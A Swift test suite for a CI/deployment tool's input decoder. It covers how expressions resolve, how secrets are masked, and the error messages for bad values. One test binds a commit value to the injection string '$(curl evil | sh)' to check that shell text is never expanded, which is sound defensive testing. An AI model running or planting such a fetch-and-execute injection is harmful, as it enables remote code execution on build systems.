import GantryCore
import Testing

/// A kind's inputs as its executor reads them: each value resolved as its key says, and a
/// value that does not fit named by its key path.
@Suite struct InputDecoderTests {
    private func decode<T: Decodable>(_ type: T.Type, _ inputs: [String: JSONValue], _ bindings: [String: String] = [:]) throws(InputDecodingError) -> T {
        try InputDecoder(bindings: bindings).decode(type, from: inputs)
    }

    private func problem<T: Decodable>(_ type: T.Type, _ inputs: [String: JSONValue], _ bindings: [String: String] = [:]) -> String? {
        do {
            _ = try decode(type, inputs, bindings)
            return nil
        } catch {
            return error.description
        }
    }

    @Test func expressionsAreResolvedAndANumberIsReadFromTheTextItResolvesTo() throws {
        let inputs = try decode(SmokeTestInputs.self, [
            "checks": .array([.object([
                "url": .string("http://127.0.0.1:${{ steps.a.outputs.port }}/healthz"),
                "expect_status": .string("${{ steps.a.outputs.status }}"),
                "method": .string("post"),
                "headers": .object(["X-Probe": .number(1)]),
                "timeout": .string("1m30s"),
            ])]),
            "attempts": .string("${{ run.params.attempts }}"),
            "interval": .string("${{ run.params.interval }}"),
        ], ["steps.a.outputs.port": "8300", "steps.a.outputs.status": "204", "run.params.attempts": " 3", "run.params.interval": "2s"])
        let check = try #require(inputs.checks.first)
        #expect(check.url == "http://127.0.0.1:8300/healthz")
        #expect(check.expectStatus == 204)
        #expect(check.method == .post)
        #expect(check.headers == ["X-Probe": "1"])
        #expect(check.timeout == .seconds(90))
        #expect(check.name == nil && check.followRedirects == nil)
        #expect(inputs.attempts == 3)
        #expect(inputs.interval == .seconds(2))
    }

    @Test func shellTextAndWhatIsReadAsWrittenAreNeverResolved() throws {
        let bindings = ["run.sha": "$(curl evil | sh)", "steps.a.outputs.dir": "/srv/app", "secrets.NPM": "npm-token"]
        let build = try decode(BuildInputs.self, [
            "run": .string("docker build -t api:${{ run.sha }} ."),
            "workdir": .string("${{ steps.a.outputs.dir }}"),
            "env": .object(["NPM_TOKEN": .string("${{ secrets.NPM }}"), "N": .number(3), "ON": .bool(true)]),
            "shell": .string("bash"),
            "kill_grace": .string("0s"),
        ], bindings)
        #expect(build.run == "docker build -t api:${{ run.sha }} .")
        #expect(build.workdir == "/srv/app")
        #expect(build.env == ["NPM_TOKEN": "npm-token", "N": "3", "ON": "true"])
        #expect(build.killGrace == .zero)

        // A step's output cannot choose the shell, or how many instances run.
        #expect(try decode(BuildInputs.self, ["run": .string("make"), "shell": .string("${{ steps.a.outputs.dir }}")], bindings).shell == "${{ steps.a.outputs.dir }}")
        #expect(problem(DeployInputs.self, ["service": .string("api"), "instances": .string("${{ steps.a.outputs.n }}")], ["steps.a.outputs.n": "3"])
            == "with.instances: must be a whole number, not text '${{ steps.a.outputs.n }}'")
        // A nested mapping's keys say again: the probe's path is as written, its URL resolved.
        let deploy = try decode(DeployInputs.self, [
            "service": .string("api"), "run": .string("exec ./api --sha ${{ run.sha }}"),
            "health": .object(["url": .string("http://${{ steps.a.outputs.dir }}"), "path": .string("/${{ run.sha }}")]),
        ], bindings)
        #expect(deploy.health?.url == "http:///srv/app" && deploy.health?.path == "/${{ run.sha }}")
        #expect(deploy.run == "exec ./api --sha ${{ run.sha }}")
    }

    @Test func aNotificationShowsEverySecretAsStarsButIsSentWithItsURL() throws {
        let bindings = ["secrets.HOOK": "https://hooks.example.com/T0/B0/s3cr3t", "secrets.TOKEN": "hunter2", "run.sha": "3f2a9c1"]
        let notify = try decode(NotifyInputs.self, [
            "channel": .string("slack"),
            "message": .string("deployed ${{ run.sha }} with ${{ secrets.TOKEN }}"),
            "link": .string("https://gantry.example.com/runs?t=${{ secrets.TOKEN }}"),
            "webhook_url": .string("${{ secrets.HOOK }}"),
            "on": .string("failure"),
        ], bindings)
        #expect(notify.message == "deployed 3f2a9c1 with ***")
        #expect(notify.link == "https://gantry.example.com/runs?t=***")
        #expect(notify.webhookURL == "https://hooks.example.com/T0/B0/s3cr3t")
        #expect(notify.on?.items == [.failure])
        #expect(try decode(NotifyInputs.self, ["channel": .string("webhook"), "on": .array([.string("success"), .string("rollback")])]).on?.items == [.success, .rollback])
    }

    @Test(arguments: [
        (["checks": .array([.object(["url": .string("http://h/"), "timeout": .string("5 sec")])])] as [String: JSONValue], [:] as [String: String],
         "with.checks[0].timeout: '5 sec' is not a duration: write a number and a unit (ms, s, m, h, d), e.g. 500ms, 2s, 1m30s"),
        (["checks": .array([.object(["url": .string("http://h/")]), .object(["expect_status": .number(200)])])], [:],
         "with.checks[1].url: not given, and it is required"),
        (["attempts": .string("many"), "checks": .array([])], [:], "with.attempts: must be a whole number, not text 'many'"),
        (["attempts": .string("${{ steps.a.outputs.n }}"), "checks": .array([])], ["steps.a.outputs.n": "many"],
         "with.attempts: '${{ steps.a.outputs.n }}' gave 'many' that is not a whole number"),
        (["attempts": .string("${{ secrets.N }}"), "checks": .array([])], ["secrets.N": "s3cr3t"],
         "with.attempts: '${{ secrets.N }}' gave text that is not a whole number"),
        (["attempts": .string("${{ steps.a.outputs.n }}"), "checks": .array([])], [:], "with.attempts: '${{ steps.a.outputs.n }}' has no value here"),
        (["checks": .array([.object(["url": .string("http://h/"), "method": .string("FETCH")])])], [:],
         "with.checks[0].method: 'FETCH': use GET, HEAD, POST, PUT, PATCH or DELETE"),
        (["checks": .array([.object(["url": .string("http://h/"), "headers": .object(["0": .array([])])])])], [:],
         "with.checks[0].headers.0: must be text, not a list"),
        (["checks": .string("all of them")], [:], "with.checks: must be a list"),
        (["checks": .array([.null])], [:], "with.checks[0]: must be a mapping"),
    ] as [([String: JSONValue], [String: String], String)])
    func aValueThatDoesNotFitIsNamedByItsPath(inputs: [String: JSONValue], bindings: [String: String], expected: String) {
        #expect(problem(SmokeTestInputs.self, inputs, bindings) == expected)
    }

    @Test func wordsAreRefusedWithTheWordsTheyCouldBe() {
        #expect(problem(DeployInputs.self, ["service": .string("api"), "strategy": .string("canary")]) == "with.strategy: 'canary' is not one of rolling, blue-green")
        #expect(problem(ScanInputs.self, ["vulnerabilities": .object(["report": .string("r.json"), "fail_on": .string("unknown")])])
            == "with.vulnerabilities.fail_on: 'unknown' is not one of critical, high, medium, low")
        #expect(problem(NotifyInputs.self, [:]) == "with.channel: not given, and it is required")
    }

    @Test func aDiffIsAFlagOrABaseAndNullIsAbsent() throws {
        func diff(_ value: JSONValue) throws -> ScanInputs.Diff? {
            try decode(ScanInputs.self, ["secrets": .object(["diff": value])], ["run.params.base": "origin/main"]).secrets?.diff
        }
        #expect(try diff(.bool(true)) == .commit)
        #expect(try diff(.bool(false)) == .off)
        #expect(try diff(.object(["base": .string("${{ run.params.base }}")])) == .base("origin/main"))
        #expect(try diff(.null) == nil)
        #expect(problem(ScanInputs.self, ["secrets": .object(["diff": .string("${{ run.params.base }}")])]) == "with.secrets.diff: use true, false or { base: REF }")
        let noop = try decode(NoopInputs.self, ["sleep_ms": .null, "output": .object(["sha": .string("${{ run.sha }}"), "n": .number(1)])], ["run.sha": "abc"])
        #expect(noop.sleepMs == nil)
        #expect(noop.output == ["sha": .string("abc"), "n": .number(1)])
    }
}
